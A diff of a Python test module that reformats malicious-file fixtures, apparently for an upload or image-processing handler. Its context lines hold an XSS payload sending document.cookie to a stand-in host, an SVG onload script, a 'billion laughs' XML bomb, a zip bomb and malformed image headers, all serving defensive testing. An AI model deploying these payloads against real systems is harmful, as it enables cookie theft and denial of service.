@@ -26,7 +26,9 @@ from tests.support.rendering import plain
 
 OCTETS = "application/octet-stream"
 SCRIPT = b"<script>fetch('http://127.0.0.1:1/'+document.cookie)</script>"
-SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect width="9" height="9"/></svg>'
+SVG = (
+    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect width="9" height="9"/></svg>'
+)
 LAUGHS = (
     b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a0 "ha">'
     + b"".join(b'<!ENTITY a%d "%s">' % (n, b"&a%d;" % (n - 1) * 10) for n in range(1, 12))
@@ -63,11 +65,18 @@ def cases() -> Iterator[Case]:
         "EPS": b"%!PS-Adobe-3.0 EPSF-3.0\n/x { x } def x\n",
         "PSD": b"8BPS\0\1" + bytes(600),
         "ICO": b"\0\0\1\0\1\0\xff\xff\0\0\1\0\x20\0" + bytes(64),
-        "BMP": b"BM" + bytes(4) + bytes(4) + b"\x36\0\0\0\x28\0\0\0" + b"\xff\xff\xff\x7f" * 2 + b"\1\0\x18\0" + bytes(64),
+        "BMP": b"BM"
+        + bytes(4)
+        + bytes(4)
+        + b"\x36\0\0\0\x28\0\0\0"
+        + b"\xff\xff\xff\x7f" * 2
+        + b"\1\0\x18\0"
+        + bytes(64),
         "JPEG 2000": b"\0\0\0\x0cjP  \r\n\x87\n" + bytes(200),
         "text": b"just words\n" * 50,
     }
     for name, found in strangers.items():
+
         def make(found: bytes | None = found) -> bytes:
             return a_zip(2_000_000_000 // 32) if found is None else found
 
